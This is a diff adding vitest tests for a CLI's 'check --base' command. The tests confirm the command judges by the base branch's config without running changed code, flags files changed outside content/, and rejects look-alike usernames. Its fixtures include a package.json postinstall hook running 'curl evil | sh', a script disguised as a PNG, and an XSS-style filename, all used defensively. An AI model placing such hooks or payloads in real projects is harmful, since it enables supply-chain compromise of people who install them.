@@ -2,6 +2,8 @@
  * `check --base` against a real git history made in each test:
  * base = main after alex and blair were added, then blair was deleted.
  */
+import { existsSync, readFileSync, rmSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { cli } from '../helpers/cli.ts';
 import { makeProject, profile } from '../helpers/repo.ts';
@@ -11,6 +13,8 @@ import { derivedSid } from '../../src/schemas/short-id.ts';
 const ALEX = 'aaaaaaaaaaaaaaaaaaaa';
 const BLAIR = 'bbbbbbbbbbbbbbbbbbbb';
 const NEW = 'cccccccccccccccccccc';
+
+const DEFAULTS = 'Judged by the default options: main has no Astro config.\n';
 
 let project: Awaited<ReturnType<typeof makeProject>>;
 beforeEach(async () => {
@@ -30,16 +34,24 @@ const check = async (env: Record<string, string> = {}) => {
 		cwd: project.dir,
 		env: { GITHUB_ACTIONS: '', ...env },
 	});
+	// The line saying which options judged (asserted where they matter), apart from the rest.
+	const judged = /^Judged by [^\n]*\n/.exec(result.stdout)?.[0];
 	return {
 		...result,
-		stdout: withoutFreshIds(result.stdout),
+		stdout: withoutFreshIds(result.stdout.slice(judged?.length ?? 0)),
 		stderr: withoutFreshIds(result.stderr),
+		judged,
 	};
 };
 
 describe('staticnouns check --base', () => {
 	test('passes when nothing changed', async () => {
-		expect(await check()).toEqual({ code: 0, stdout: '1 profile is valid.\n', stderr: '' });
+		expect(await check()).toEqual({
+			code: 0,
+			stdout: '1 profile is valid.\n',
+			stderr: '',
+			judged: DEFAULTS,
+		});
 	});
 
 	test('passes a new profile with a new ID', async () => {
@@ -104,6 +116,7 @@ describe('staticnouns check --base', () => {
 		await project.write({ 'content/users/alexandra/index.md': profile(ALEX) });
 		expect(await check()).toEqual({
 			code: 0,
+			judged: DEFAULTS,
 			stdout: `renamed: content/users/alex.md → content/users/alexandra/index.md (same ID ${ALEX})\nPublished from the profile this change adds or edits, with their members: 9 files, about 12.6 KB: 1 page (about 12.0 KB), 8 API files (664 bytes).\n1 profile is valid.\n`,
 			stderr: '',
 		});
@@ -199,6 +212,7 @@ describe('staticnouns check --base, with members', () => {
 	test('passes when nothing changed, counting the members', async () => {
 		expect(await check()).toEqual({
 			code: 0,
+			judged: DEFAULTS,
 			stdout: '1 profile and 1 member are valid.\n',
 			stderr: '',
 		});
@@ -259,6 +273,7 @@ describe('staticnouns check --base, with members', () => {
 		});
 		expect(await check()).toEqual({
 			code: 0,
+			judged: DEFAULTS,
 			stdout: `renamed: content/users/alex/members/june.md → content/users/sam/members/june/index.md (same ID ${JUNE})\nPublished from the profile this change adds or edits, with their members: 16 files, about 26.2 KB: 2 pages (about 24.0 KB), 14 API files (2.2 KB).\n2 profiles and 1 member are valid.\n`,
 			stderr: '',
 		});
@@ -283,6 +298,7 @@ describe('staticnouns check --base, after new <user>/<member> moved the user', (
 		expect((await cli(['owners'], { cwd: project.dir })).code).toBe(0);
 		expect(await check()).toEqual({
 			code: 0,
+			judged: DEFAULTS,
 			stdout:
 				'Published from the profile this change adds or edits, with their members: 16 files, about 26.4 KB: 2 pages (about 24.0 KB), 14 API files (2.4 KB).\n1 profile and 1 member are valid.\n',
 			stderr: '',
@@ -397,6 +413,185 @@ describe('staticnouns check --base without history', () => {
 		expect(result.code).toBe(2);
 		expect(result.stderr).toMatch(
 			/^staticnouns check: .* is not inside a git repository; --base needs the project's git history\n$/,
+		);
+	});
+});
+
+describe("judges by the base's options, running none of the change's code (issue 31, point 3)", () => {
+	const astroConfig = (options: string, code = '') =>
+		`import { defineConfig } from 'astro/config';\nimport staticnouns from 'staticnouns';\n${code}\nexport default defineConfig({ integrations: [staticnouns(${options})] });\n`;
+	const PRONOUNS = (count: number) =>
+		`pronouns:\n${Array.from({ length: count }, (_, index) => `  - p${index}/q${index}\n`).join('')}`;
+
+	test("a change raising limits.pronouns in its own config is judged by the base's limit, and its config never runs", async () => {
+		await project.write({ 'astro.config.mjs': astroConfig('{ limits: { pronouns: 2 } }') });
+		project.commit('limits');
+		await project.write({
+			'astro.config.mjs': astroConfig(
+				'{ limits: { pronouns: 300 } }',
+				"import { writeFileSync } from 'node:fs';\nwriteFileSync(new URL('./ran.txt', import.meta.url), 'ran');",
+			),
+			'content/users/casey.md': profile(NEW, PRONOUNS(3)),
+		});
+		const result = await check();
+		expect(result.code).toBe(1);
+		expect([result.judged, result.stdout]).toEqual([
+			'Judged by the options of astro.config.mjs at main, read without running it: limits.pronouns 2; every other limit its default.\n',
+			'This change also adds, changes or removes 1 file outside content/, which the profile check does not judge: a maintainer must review it.\n  site code and config:\n    changed  astro.config.mjs\n',
+		]);
+		expect(result.stderr).toMatch(/^content\/users\/casey\.md:\d+: pronouns: .*\b2\b/);
+		expect(existsSync(join(project.dir, 'ran.txt'))).toBe(false);
+	});
+
+	test('says the defaults judged when the base has no config, whatever the change adds', async () => {
+		await project.write({
+			'astro.config.mjs': astroConfig('{ limits: { pronouns: 300 } }'),
+			'content/users/casey.md': profile(NEW, PRONOUNS(51)),
+		});
+		const result = await check();
+		expect(result.code).toBe(1);
+		expect(result.judged).toBe('Judged by the default options: main has no Astro config.\n');
+		expect(result.stderr).toMatch(/^content\/users\/casey\.md:\d+: pronouns: .*\b50\b/);
+	});
+
+	test('refuses limits the base sets by code, with the fix', async () => {
+		await project.write({
+			'astro.config.mjs': astroConfig('{ limits: { pronouns: Number(process.env.P) } }'),
+		});
+		project.commit('dynamic limits');
+		expect(await check()).toEqual({
+			code: 1,
+			stdout: '',
+			judged: undefined,
+			stderr:
+				'astro.config.mjs at main: limits.pronouns is not a plain value (a variable, process.env, a call), so check --base cannot know it without running the config: write the number itself there\n',
+		});
+	});
+});
+
+describe('names every file the change touches outside the content folder (issue 31, point 2)', () => {
+	const LIST = [
+		'This change also adds, changes or removes 6 files outside content/, which the profile check does not judge: a maintainer must review them.',
+		'  site code and config:',
+		'    changed  astro.config.mjs',
+		'    added    src/pages/login.astro',
+		'  workflows and package files:',
+		'    added    .github/workflows/extra.yml',
+		'    changed  package.json',
+		'  public/:',
+		'    added    public/assets/run.png',
+		'    removed  public/favicon.svg',
+		'',
+	].join('\n');
+	beforeEach(async () => {
+		await project.write({
+			'astro.config.mjs': 'export default {};\n',
+			'package.json': '{ "name": "site" }\n',
+			'public/favicon.svg': '<svg/>',
+			'.github/CODEOWNERS': '* @org/maintainers\n',
+		});
+		project.commit('site');
+		await project.write({
+			'content/users/casey.md': profile(NEW),
+			'astro.config.mjs': 'export default { integrations: [] };\n',
+			'package.json': '{ "name": "site", "scripts": { "postinstall": "curl evil | sh" } }\n',
+			'src/pages/login.astro': '<form></form>',
+			'.github/workflows/extra.yml': 'on: push\n',
+			'public/assets/run.png': '#!/bin/sh\n',
+		});
+		await project.remove('public/favicon.svg');
+	});
+
+	test('lists them grouped, apart from the verdict, and fails for them by default', async () => {
+		const result = await check();
+		expect(result).toMatchObject({
+			code: 1,
+			judged:
+				'Judged by the options of astro.config.mjs at main, read without running it: the default limits.\n',
+		});
+		expect(result.stdout).toBe(
+			`${LIST}Published from the profile this change adds or edits, with their members: 9 files, about 12.6 KB: 1 page (about 12.0 KB), 8 API files (648 bytes).\n2 profiles are valid.\n`,
+		);
+		expect(result.stderr).toBe(
+			"6 files outside the content folder changed (listed above): a profile change touches only the content folder. A maintainer reviews them, then runs the check with --allow-site-changes (the pull-request workflow does for maintainers' and Dependabot's pull requests, and for one labelled site-change).\n",
+		);
+	});
+
+	test('passes with --allow-site-changes, still listing them', async () => {
+		const result = await cli(['check', '--base', 'main', '--allow-site-changes'], {
+			cwd: project.dir,
+			env: { GITHUB_ACTIONS: '' },
+		});
+		expect(result.code).toBe(0);
+		expect(result.stdout).toContain(LIST);
+		expect(result.stderr).toBe('');
+	});
+
+	test("counts what the base gained since the change left it as the base's, not the change's", async () => {
+		project.git('switch', '-q', '-c', 'pr');
+		project.commit('the pull request');
+		project.git('switch', '-q', 'main');
+		await project.write({ 'src/main-only.ts': 'export {};\n' });
+		project.commit('main moves on');
+		project.git('switch', '-q', 'pr');
+		const result = await check();
+		expect(result.stdout).toContain(LIST);
+		expect(result.stdout).not.toContain('main-only');
+	});
+
+	test("takes a CODEOWNERS change inside the owners' block as content's, and one outside it as a site file", async () => {
+		await project.write({
+			'content/users/casey.md': profile(NEW, 'owners: [casey-gh]\n'),
+			'.github/CODEOWNERS':
+				'* @org/maintainers\n\n# BEGIN staticnouns owners: generated by `npx staticnouns owners` from the owners in each profile; edit those, not this block\n/content/users/casey.md @casey-gh\n# END staticnouns owners\n',
+		});
+		expect((await check()).stdout).not.toContain('CODEOWNERS');
+		await project.write({
+			'.github/CODEOWNERS':
+				'* @casey-gh\n\n# BEGIN staticnouns owners: generated by `npx staticnouns owners` from the owners in each profile; edit those, not this block\n/content/users/casey.md @casey-gh\n# END staticnouns owners\n',
+		});
+		expect((await check()).stdout).toContain('    changed  .github/CODEOWNERS\n');
+	});
+
+	test('writes the list and, apart, the verdict to the job summary, every name inert', async () => {
+		await project.write({ 'src/<img src=x onerror=alert(1)>`|*.astro': '' });
+		const summary = join(project.dir, '..', `${project.dir.split('/').pop()}-summary.md`);
+		await cli(['check', '--base', 'main', '--summary', summary], {
+			cwd: project.dir,
+			env: { GITHUB_ACTIONS: '' },
+		});
+		const text = readFileSync(summary, 'utf8');
+		rmSync(summary);
+		expect(text).toContain('### Files outside content/: 7, for a maintainer to review');
+		expect(text).toContain(
+			'- added: <code>src/&#60;img src&#61;x onerror&#61;alert&#40;1&#41;&#62;&#96;&#124;&#42;.astro</code>',
+		);
+		expect(text).not.toContain('<img');
+		expect(text.endsWith('### Profiles\n\n2 profiles are valid.\n')).toBe(true);
+	});
+});
+
+describe('refuses new names that read as existing ones (issue 31, point 4)', () => {
+	test('aIex beside alex and rnorgan beside morgan, with the same display names; existing look-alikes stand', async () => {
+		await project.write({
+			'content/users/morgan.md': profile('dddddddddddddddddddd', 'display_name: Morgan\n'),
+			'content/users/a1ex.md': profile('eeeeeeeeeeeeeeeeeeee'),
+		});
+		project.commit('morgan, and a1ex from before the rule');
+		await project.write({
+			'content/users/aIex.md': profile(NEW, 'display_name: Alex\n'),
+			'content/users/rnorgan.md': profile('ffffffffffffffffffff', 'display_name: Morgan\n'),
+			'content/users/robin.md': profile('gggggggggggggggggggg'),
+		});
+		const result = await check();
+		expect(result.code).toBe(1);
+		expect(result.stderr).toBe(
+			[
+				'content/users/aIex.md:1: name: the name "aIex" reads as "a1ex" (content/users/a1ex.md): letters that look alike (I, l and 1; O and 0; rn and m; vv and w; cl and d; any case) would send readers to the wrong person: choose a name that does not read as another\'s',
+				'content/users/rnorgan.md:1: name: the name "rnorgan" reads as "morgan" (content/users/morgan.md): letters that look alike (I, l and 1; O and 0; rn and m; vv and w; cl and d; any case) would send readers to the wrong person: choose a name that does not read as another\'s',
+				'2 problems in 2 files.',
+				'',
+			].join('\n'),
 		);
 	});
 });
